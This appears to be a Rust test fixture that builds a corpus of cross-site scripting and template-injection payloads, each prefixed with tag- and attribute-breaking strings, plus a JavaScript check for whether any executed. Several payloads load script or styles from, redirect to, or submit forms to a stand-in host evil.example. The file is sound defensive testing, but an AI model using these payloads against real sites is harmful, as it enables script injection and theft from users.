//! Texts that try to be more than text: elements, attributes, addresses, styles, escapes.

/// What would run, were it more than text; each sets a mark on the window.
const PAYLOADS: [&str; 25] = [
    "<script>window.owned=1</script>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.owned=1>",
    "<img src='x' onerror='window.owned=1'>",
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<iframe src=javascript:parent.owned=1></iframe>",
    "<a href=javascript:window.owned=1>go</a>",
    "<body onload=window.owned=1>",
    "<input autofocus onfocus=window.owned=1>",
    "<details open ontoggle=window.owned=1>x</details>",
    "<video><source onerror=window.owned=1></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    "<object data=javascript:window.owned=1></object>",
    "<math><mtext><img src=x onerror=window.owned=1></mtext></math>",
    "javascript:window.owned=1",
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
];

/// All of them, plain and behind what would end a text, an attribute, an element or a comment.
pub fn corpus() -> Vec<String> {
    let ends = ["", "\">", "'>", "</pre>", "</title>", "--><!--", "</textarea></script>", "\u{202e}"];
    ends.iter().flat_map(|end| PAYLOADS.iter().map(move |payload| format!("{end}{payload}"))).collect()
}

/// What of it is more than text on a page: the mark, or elements that no page of ours has.
pub const HARM: &str = "const found = [];\
    if (window.owned) found.push('a script ran');\
    const foreign = 'img,iframe,object,video,math,base,style,body body,[onload],[onerror],[onfocus],[ontoggle],\
        script:not([src=\"/ui/live.js\"]),link:not([href=\"/ui/style.css\"]):not([href=\"data:,\"]),\
        meta[http-equiv],form[action*=evil],[href^=\"javascript\" i],[src^=\"javascript\" i]';\
    for (const one of document.querySelectorAll(foreign)) found.push(one.outerHTML.slice(0, 120));\
    return found.join('\\n');";
